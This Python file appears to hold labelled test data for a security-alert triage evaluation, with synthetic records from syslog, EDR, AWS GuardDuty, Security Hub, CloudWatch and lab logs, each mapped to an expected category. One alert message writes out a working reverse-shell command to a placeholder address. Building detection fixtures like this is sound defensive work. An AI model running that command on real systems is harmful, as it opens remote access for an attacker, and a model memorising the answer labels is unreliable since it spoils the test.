"""The labelled alerts of the triage evaluation, by source, with the category each should
get under the order README writes down ("How triage ranks"). The labels were written
before the analysers were run on them, and are not changed to fit an answer.

Each source becomes one batch, in the file shape its tool writes."""

# (alert, expected category)
APP = [  # syslog and application monitoring, JSON lines, ids in "id"
    ({"id": "app-01", "host": "web-1", "message": "kernel: Out of memory: Killed process 2231 (java)"}, "outage"),
    ({"id": "app-02", "host": "web-1", "message": "nginx: upstream not responding, returning 502 Bad Gateway"}, "outage"),
    ({"id": "app-03", "host": "db-1", "message": "postgres: could not write: No space left on device"}, "outage"),
    ({"id": "app-04", "host": "bastion-1", "src_ip": "203.0.113.50", "message": "sshd: Failed password for root from 203.0.113.50 port 51022"}, "brute-force"),
    ({"id": "app-05", "host": "bastion-1", "src_ip": "203.0.113.50", "message": "sshd: Failed password for root from 203.0.113.50 port 51023"}, "brute-force"),
    ({"id": "app-06", "host": "bastion-1", "src_ip": "203.0.113.50", "message": "sshd: Failed password for admin from 203.0.113.50 port 51024"}, "brute-force"),
    ({"id": "app-07", "host": "bastion-1", "src_ip": "203.0.113.50", "message": "sshd: Failed password for ubuntu from 203.0.113.50 port 51025"}, "brute-force"),
    ({"id": "app-08", "host": "bastion-1", "src_ip": "203.0.113.50", "message": "sshd: Failed password for test from 203.0.113.50 port 51026"}, "brute-force"),
    ({"id": "app-09", "host": "bastion-1", "src_ip": "10.0.0.8", "message": "sshd: Accepted publickey for deploy from 10.0.0.8"}, "noise"),
    ({"id": "app-10", "host": "web-2", "user": "root", "message": "sudo: user bob permanently added to sudoers"}, "privilege-change"),
    ({"id": "app-11", "host": "web-2", "message": "auditd: audit backlog limit exceeded, audit records lost"}, "security-logging"),
    ({"id": "app-12", "host": "web-2", "message": "rsyslog: action forward-to-siem suspended, messages discarded"}, "security-logging"),
    ({"id": "app-13", "host": "web-3", "message": "clamav daemon stopped unexpectedly"}, "security-component"),
    ({"id": "app-14", "host": "ids-1", "message": "suricata: engine exited with signal 11"}, "security-component"),
    ({"id": "app-15", "host": "web-1", "message": "cron: job backup.sh completed in 42 s"}, "noise"),
    ({"id": "app-16", "host": "api-1", "message": "TLS certificate for api.example.com expires in 12 days"}, "hygiene"),
    ({"id": "app-17", "host": "api-1", "message": "Connection timeout to redis-1:6379, retrying"}, "routine-error"),
    ({"id": "app-18", "host": "web-4", "message": "Reverse shell detected: bash -i >& /dev/tcp/198.51.100.9/4444"}, "active-attack"),
    ({"id": "app-19", "host": "db-2", "message": "Outbound transfer of 4.2 GB to 198.51.100.200 flagged as exfiltration"}, "active-attack"),
    ({"id": "app-20", "host": "lb-1", "message": "SYN flood detected on lb-1; SYN cookies engaged"}, "denial-of-service"),
    ({"id": "app-21", "host": "fw-1", "user": "admin", "message": "Temporary allowlist entry for 198.51.100.3 added, expires in 2 hours"}, "hygiene"),
    ({"id": "app-22", "host": "idp-1", "message": "Password policy allows 6-character passwords"}, "hygiene"),
    ({"id": "app-23", "host": "web-1", "message": "GET /healthz 200 in 3 ms"}, "noise"),
]

EDR = [  # an EDR/SIEM export, JSON array, ids in "alertId", codes in "alert_code"
    ({"alertId": "E-1001", "hostname": "WS-12", "alert_code": "EDR-CRED", "description": "Mimikatz credential dumping detected on WS-12"}, "active-attack"),
    ({"alertId": "E-1002", "hostname": "FS-2", "alert_code": "EDR-RANSOM", "description": "Ransomware behaviour: mass file encryption on FS-2"}, "active-attack"),
    ({"alertId": "E-1003", "hostname": "DC-1", "user": "jsmith", "alert_code": "AD-4740", "description": "Account jsmith locked out after 5 failed logon attempts"}, "brute-force"),
    ({"alertId": "E-1004", "hostname": "WS-30", "alert_code": "EDR-AV", "description": "Windows Defender real-time protection disabled"}, "security-component"),
    ({"alertId": "E-1005", "hostname": "DC-1", "alert_code": "WIN-1102", "description": "Security event log cleared (Event ID 1102)"}, "security-logging"),
    ({"alertId": "E-1006", "hostname": "DC-1", "user": "administrator", "alert_code": "AD-4728", "description": "User alice added to Domain Admins"}, "privilege-change"),
    ({"alertId": "E-1007", "hostname": "IDP", "user": "carol", "alert_code": "IDP-GEO", "description": "Login from a new country for user carol"}, "hygiene"),
    ({"alertId": "E-1008", "hostname": "FW-1", "src": "203.0.113.77", "alert_code": "FW-SCAN", "description": "Port scan from 203.0.113.77 blocked by firewall"}, "hygiene"),
    ({"alertId": "E-1009", "hostname": "MAIL", "alert_code": "MAIL-PHISH", "description": "Phishing email with malicious attachment quarantined"}, "hygiene"),
    ({"alertId": "E-1010", "hostname": "WS-40", "alert_code": "EDR-OFFLINE", "description": "EDR sensor offline on WS-40 for 30 minutes"}, "security-component"),
    ({"alertId": "E-1011", "hostname": "WEB-7", "alert_code": "WAF-SQLI", "description": "SQL injection attempt succeeded: rows returned from users table"}, "active-attack"),
    ({"alertId": "E-1012", "hostname": "WS-12", "alert_code": "EDR-INFO", "description": "Scheduled scan finished, no threats found"}, "noise"),
]


def gd(id_, kind, severity, title, instance="i-0abc1234567890def", remote=None):
    f = {
        "AccountId": "111122223333",
        "Arn": f"arn:aws:guardduty:us-east-1:111122223333:detector/d1/finding/{id_}",
        "CreatedAt": "2026-11-21T09:00:00.000Z",
        "Description": title,
        "Id": id_,
        "Partition": "aws",
        "Region": "us-east-1",
        "Resource": {"InstanceDetails": {"InstanceId": instance}, "ResourceType": "Instance"},
        "SchemaVersion": "2.0",
        "Service": {"ServiceName": "guardduty", "Count": 1},
        "Severity": severity,
        "Title": title,
        "Type": kind,
        "UpdatedAt": "2026-11-21T09:05:00.000Z",
    }
    if remote:
        f["Service"]["Action"] = {"ActionType": "NETWORK_CONNECTION", "NetworkConnectionAction": {"RemoteIpDetails": {"IpAddressV4": remote}}}
    return f


GUARDDUTY = [  # `aws guardduty get-findings`, one document
    (gd("gd-01", "Backdoor:EC2/DenialOfService.Tcp", 8, "EC2 instance i-0abc1234567890def is behaving in a manner that may indicate it is being used to perform a DoS attack using TCP."), "active-attack"),
    (gd("gd-02", "CryptoCurrency:EC2/BitcoinTool.B!DNS", 8, "EC2 instance is querying a domain name that is associated with Bitcoin-related activity."), "active-attack"),
    (gd("gd-03", "Trojan:EC2/DNSDataExfiltration", 8, "EC2 instance is exfiltrating data through DNS queries."), "active-attack"),
    (gd("gd-04", "UnauthorizedAccess:EC2/SSHBruteForce", 2, "198.51.100.77 is performing SSH brute force attacks against the instance.", remote="198.51.100.77"), "brute-force"),
    (gd("gd-05", "UnauthorizedAccess:EC2/RDPBruteForce", 2, "198.51.100.78 is performing RDP brute force attacks against the instance.", remote="198.51.100.78"), "brute-force"),
    (gd("gd-06", "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", 8, "Credentials created exclusively for an EC2 instance are being used from an external IP address."), "active-attack"),
    (gd("gd-07", "Recon:EC2/PortProbeUnprotectedPort", 2, "Unprotected port on EC2 instance is being probed.", remote="203.0.113.9"), "hygiene"),
    (gd("gd-08", "Stealth:IAMUser/CloudTrailLoggingDisabled", 2, "AWS CloudTrail trail management-events was disabled."), "security-logging"),
    (gd("gd-09", "Policy:IAMUser/RootCredentialUsage", 2, "API GetCallerIdentity was invoked using root credentials."), "hygiene"),
    (gd("gd-10", "Policy:S3/BucketBlockPublicAccessDisabled", 2, "Amazon S3 Block Public Access was disabled for S3 bucket example-bucket."), "hygiene"),
    (gd("gd-11", "Exfiltration:S3/AnomalousBehavior", 8, "An IAM entity invoked an S3 API in a suspicious way."), "active-attack"),
    (gd("gd-12", "Behavior:EC2/NetworkPortUnusual", 5, "EC2 instance is communicating with a remote host on an unusual server port 8443.", remote="198.51.100.21"), "active-attack"),
    (gd("gd-13", "Impact:EC2/AbusedDomainRequest.Reputation", 5, "EC2 instance is querying a low-reputation domain name associated with known abused domains."), "active-attack"),
    (gd("gd-14", "DefenseEvasion:EC2/UnusualDoHActivity", 5, "EC2 instance is performing DNS-over-HTTPS requests to an unusual endpoint."), "active-attack"),
]


def asff(id_, product, types, label, title, status=None, workflow="NEW", resource="arn:aws:ec2:us-east-1:111122223333:instance/i-0abc"):
    f = {
        "SchemaVersion": "2018-10-08",
        "Id": id_,
        "ProductArn": f"arn:aws:securityhub:us-east-1::product/aws/{product}",
        "GeneratorId": id_.split("/finding")[0],
        "AwsAccountId": "111122223333",
        "Types": types,
        "CreatedAt": "2026-11-20T08:00:00.000Z",
        "UpdatedAt": "2026-11-21T08:00:00.000Z",
        "Severity": {"Label": label},
        "Title": title,
        "Description": title,
        "Resources": [{"Type": "Other", "Id": resource}],
        "Workflow": {"Status": workflow},
        "RecordState": "ACTIVE",
    }
    if status:
        f["Compliance"] = {"Status": status}
    return f


CHECKS = "Software and Configuration Checks/Industry and Regulatory Standards"
SECURITYHUB = [  # `aws securityhub get-findings`, one document
    (asff("sh-01/finding/1", "securityhub", [CHECKS], "CRITICAL", "Security groups should not allow unrestricted access to ports with high risk", "FAILED"), "hygiene"),
    (asff("sh-02/finding/2", "securityhub", [CHECKS], "HIGH", "S3 general purpose buckets should block public access", "PASSED"), "noise"),
    (asff("sh-03/finding/3", "securityhub", [CHECKS], "CRITICAL", "Hardware MFA should be enabled for the root user", "FAILED"), "hygiene"),
    (asff("sh-04/finding/4", "securityhub", [CHECKS], "HIGH", "CloudTrail should be enabled and configured with at least one multi-Region trail", "FAILED"), "security-logging"),
    (asff("sh-05/finding/5", "guardduty", ["TTPs/Command and Control/Backdoor:EC2-C&CActivity.B"], "HIGH", "EC2 instance is querying an IP address that is associated with a known command and control server."), "active-attack"),
    (asff("sh-06/finding/6", "inspector", ["Software and Configuration Checks/Vulnerabilities/CVE"], "CRITICAL", "CVE-2021-44228 - org.apache.logging.log4j:log4j-core"), "hygiene"),
    (asff("sh-07/finding/7", "macie", ["Sensitive Data Identifications/PII"], "MEDIUM", "The S3 object contains personally identifiable information."), "hygiene"),
    (asff("sh-08/finding/8", "guardduty", ["Effects/Data Exfiltration/Exfiltration:S3-AnomalousBehavior"], "HIGH", "An IAM entity invoked an S3 API in a suspicious way."), "active-attack"),
    (asff("sh-09/finding/9", "securityhub", [CHECKS], "HIGH", "The VPC default security group should not allow inbound or outbound traffic", "FAILED"), "hygiene"),
    (asff("sh-10/finding/10", "guardduty", ["TTPs/Initial Access/UnauthorizedAccess:EC2-SSHBruteForce"], "LOW", "198.51.100.77 is performing SSH brute force attacks against the instance.", workflow="SUPPRESSED"), "noise"),
]


def alarm(id_, name, state, description, reason="Threshold Crossed"):
    return {
        "version": "0",
        "id": id_,
        "detail-type": "CloudWatch Alarm State Change",
        "source": "aws.cloudwatch",
        "account": "123456789012",
        "time": "2026-11-21T17:04:40Z",
        "region": "us-east-1",
        "resources": [f"arn:aws:cloudwatch:us-east-1:123456789012:alarm:{name}"],
        "detail": {
            "alarmName": name,
            "configuration": {"description": description},
            "previousState": {"value": "OK", "reason": "", "timestamp": "2026-11-21T16:59:40.000+0000"},
            "state": {"value": state, "reason": reason, "timestamp": "2026-11-21T17:04:40.000+0000"},
        },
    }


CLOUDWATCH = [  # alarm state-change events from EventBridge, JSON lines
    (alarm("cw-01", "web-5xx-rate", "ALARM", "5xx error rate above 5% on the web tier"), "outage"),
    (alarm("cw-02", "ServerCpuTooHigh", "ALARM", "Goes into alarm when server CPU utilization is too high!"), "routine-error"),
    (alarm("cw-03", "cis-lab-egress-alarm", "ALARM", "Egress bytes from the target above the limit learned from its baseline: possible exfiltration"), "active-attack"),
    (alarm("cw-04", "root-volume-space", "ALARM", "Root volume of web-1 is 95% full"), "outage"),
    (alarm("cw-05", "web-1-status-check", "ALARM", "EC2 instance status check failed for web-1"), "outage"),
    (alarm("cw-06", "rds-free-storage", "OK", "Free storage of db-1 below 10 GB"), "noise"),
    (alarm("cw-07", "api-latency-p99", "INSUFFICIENT_DATA", "API p99 latency above 2 s"), "routine-error"),
    (alarm("cw-08", "waf-blocked-requests", "ALARM", "WAF blocked requests spike: possible HTTP flood against the site"), "denial-of-service"),
    (alarm("cw-09", "cloudtrail-changes", "ALARM", "CloudTrail configuration changed: StopLogging or DeleteTrail was called"), "security-logging"),
    (alarm("cw-10", "console-signin-failures", "ALARM", "More than 10 console sign-in failures in 5 minutes"), "brute-force"),
]

LAB = [  # the lab's own records, as its functions log them
    ('2026-01-01T00:05:00Z\treq-1\tCIS_DETECTION {"at":1767225900000,"lab":"demo","instance_id":"i-0abc","detector":"feature-tails","window_start":1767225840000,"reason":"bytes out 40x the baseline"}', "active-attack"),
    ('2026-01-01T00:05:01Z\treq-2\tCIS_CONTAINMENT {"invoked_at":1767225901000,"finished_at":1767225901500,"instance_id":"i-0abc","outcome":"isolated","isolated_at":1767225901400,"detail":"network-acl"}', "active-attack"),
    ('2026-01-01T02:10:00Z\treq-3\tCIS_DETECTION {"at":1767233400000,"lab":"demo","instance_id":"i-0def","detector":"memory","window_start":1767233340000,"reason":"returning to a never-seen /24 for 6 windows"}', "active-attack"),
]
